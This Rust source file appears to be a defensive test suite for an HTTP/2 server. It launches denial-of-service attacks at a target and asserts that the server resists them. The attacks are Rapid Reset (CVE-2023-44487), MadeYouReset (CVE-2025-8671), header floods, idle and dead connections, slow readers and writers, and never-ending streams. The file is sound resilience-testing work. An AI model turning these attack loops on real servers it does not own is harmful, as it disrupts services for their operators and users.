//! The attacks. Each says what it did and what became of it, and fails if the server did not defend itself.

use std::collections::HashSet;

use crate::http2::{
    Event, Line, Manners, PATIENCE, call, data, framed, large_head, more_head, overflow, reset,
    unfinished_head, whole_call,
};
use crate::target::{GET, IMPORT, LIST, Target};

/// CVE-2023-44487: calls that are taken back as soon as they are made.
pub async fn rapid_reset(target: &Target, calls: usize) -> String {
    let batch = |stream| [call(stream, GET, &target.member), reset(stream)].concat();
    storm(target, calls, "taken back", batch).await
}

/// CVE-2025-8671: calls that the server itself must reset, since they break the protocol.
pub async fn made_you_reset(target: &Target, calls: usize) -> String {
    let batch = |stream| [call(stream, GET, &target.member), overflow(stream)].concat();
    storm(target, calls, "broken", batch).await
}

async fn storm(target: &Target, calls: usize, what: &str, one: impl Fn(u32) -> Vec<u8>) -> String {
    const AT_ONCE: usize = 1_000;
    let (mut sent, mut closed) = (0, 0);
    while sent < calls {
        let mut line = Line::open(&target.address, Manners::GOOD).await.unwrap();
        // Until the server has had enough of this connection.
        while sent < calls {
            let batch: Vec<_> = (0..AT_ONCE).flat_map(|_| one(line.stream())).collect();
            sent += AT_ONCE;
            if line.write(&batch).await.is_err() || line.is_closed() {
                closed += 1;
                break;
            }
        }
    }
    assert!(closed > 0, "a connection took {sent} calls that were {what}");
    format!("{sent} calls {what}; {closed} connections closed by the server")
}

/// Heads without an end, and heads beyond the limit.
pub async fn heads(target: &Target, times: usize) -> String {
    let (mut bytes, mut answered) = (0, 0);
    for _ in 0..times {
        let mut line = Line::open(&target.address, Manners::GOOD).await.unwrap();
        let stream = line.stream();
        line.write(&unfinished_head(stream, GET, &target.member)).await.unwrap();
        let more = more_head(stream, 16_000);
        // 16 MiB would be far too much.
        let mut parts = 0;
        while parts < 1_024 && line.write(&more).await.is_ok() && !line.is_closed() {
            (parts, bytes) = (parts + 1, bytes + more.len());
        }
        assert!(parts < 1_024, "a head of 16 MiB was taken");

        let mut line = Line::open(&target.address, Manners::GOOD).await.unwrap();
        let stream = line.stream();
        line.write(&large_head(stream, GET, &target.member, 200)).await.unwrap();
        assert!(matches!(
            line.event().await,
            Event::Ended(_) | Event::Reset(..) | Event::GoAway(_)
        ));
        answered += 1;
    }
    format!(
        "{times} heads without an end ({} KiB got through), {answered} heads of 22 KiB refused",
        bytes / 1024
    )
}

/// Connections that say nothing, more than there may be.
pub async fn idle(target: &Target, connections: usize, most: usize) -> String {
    let before = target.resident();
    let mut lines = Vec::with_capacity(connections);
    for _ in 0..connections {
        lines.push(Line::open(&target.address, Manners::GOOD).await.unwrap());
    }
    let beyond = connections.saturating_sub(most);
    let mut open = connections;
    let deadline = tokio::time::Instant::now() + PATIENCE;
    while open > connections - beyond {
        assert!(tokio::time::Instant::now() < deadline, "{open} connections are open");
        tokio::task::yield_now().await;
        open = lines.iter_mut().map(|line| usize::from(!line.is_closed())).sum();
    }
    let grown = target.resident().saturating_sub(before);
    format!(
        "{connections} idle connections, {open} of them open: {:.1} KiB each",
        grown as f64 / open as f64
    )
}

/// Connections whose other end is no longer there.
pub async fn dead(target: &Target, connections: usize) -> String {
    let mut lines = Vec::new();
    for _ in 0..connections {
        lines.push(Line::open(&target.address, Manners::DEAD).await.unwrap());
    }
    for line in &mut lines {
        line.until_closed().await;
    }
    format!("{connections} dead connections, all closed by keepalive")
}

/// Answers that nobody reads.
pub async fn slow_readers(target: &Target, connections: usize, calls: usize) -> String {
    let message = target.list();
    let mut lines = Vec::new();
    for _ in 0..connections {
        let mut line = Line::open(&target.address, Manners::NO_READER).await.unwrap();
        let streams: Vec<_> = (0..calls).map(|_| line.stream()).collect();
        for &stream in &streams {
            line.write(&whole_call(stream, LIST, &target.member, &message)).await.unwrap();
        }
        lines.push((line, streams));
    }
    // The first ones keep the turns of the business: a connection of which every call was refused has nothing to read.
    let mut closed = 0;
    for (line, streams) in &mut lines {
        match until_ended(line, streams).await {
            Left::Closed => closed += 1,
            Left::Open { reset } => {
                assert!(closed > 0, "who came first had answers to read");
                assert_eq!(
                    reset, 0,
                    "an answer that nobody read was given up, and its connection kept"
                );
            }
        }
    }
    served_again(target).await;
    format!("{connections} connections with {calls} answers each that nobody read, {closed} closed")
}

/// Messages of which a byte comes, and no more.
pub async fn slow_writers(target: &Target, calls: usize) -> String {
    let message = framed(&target.list());
    let mut line = Line::open(&target.address, Manners::GOOD).await.unwrap();
    let streams: Vec<_> = (0..calls).map(|_| line.stream()).collect();
    for &stream in &streams {
        line.write(&call(stream, LIST, &target.member)).await.unwrap();
    }
    for &stream in &streams {
        line.write(&data(stream, &message[..1], false)).await.unwrap();
    }
    until_ended(&mut line, &streams).await;
    served_again(target).await;
    format!("{calls} messages of which one byte came, all answered at their deadline")
}

/// As many streams as may be, of which none ends, and more.
pub async fn endless(target: &Target, connections: usize, streams: usize) -> String {
    let mut lines = Vec::new();
    for _ in 0..connections {
        let mut line = Line::open(&target.address, Manners::GOOD).await.unwrap();
        let opened: Vec<_> = (0..streams).map(|_| line.stream()).collect();
        for &stream in &opened {
            line.write(&call(stream, IMPORT, &target.member)).await.unwrap();
        }
        lines.push((line, opened));
    }
    for (line, opened) in &mut lines {
        until_ended(line, opened).await;
    }
    served_again(target).await;
    format!("{connections} connections with {streams} imports each that never begin, all ended")
}

/// What is left of a connection whose calls have ended.
enum Left {
    /// With so many of its calls reset.
    Open {
        reset: usize,
    },
    Closed,
}

/// Waits until the server has ended each of them, whether with an answer or without.
async fn until_ended(line: &mut Line, streams: &[u32]) -> Left {
    let (mut open, mut reset): (HashSet<_>, _) = (streams.iter().copied().collect(), 0);
    while !open.is_empty() {
        match line.event().await {
            Event::Ended(stream) => {
                open.remove(&stream);
            }
            Event::Reset(stream, _) => reset += usize::from(open.remove(&stream)),
            Event::GoAway(_) => {}
            Event::Closed => return Left::Closed,
        }
    }
    Left::Open { reset }
}

/// The business that attacked has its places again.
async fn served_again(target: &Target) {
    let deadline = tokio::time::Instant::now() + PATIENCE;
    while let Err(status) = target.ask_as_member().await {
        assert!(tokio::time::Instant::now() < deadline, "{status:?}");
        tokio::task::yield_now().await;
    }
}
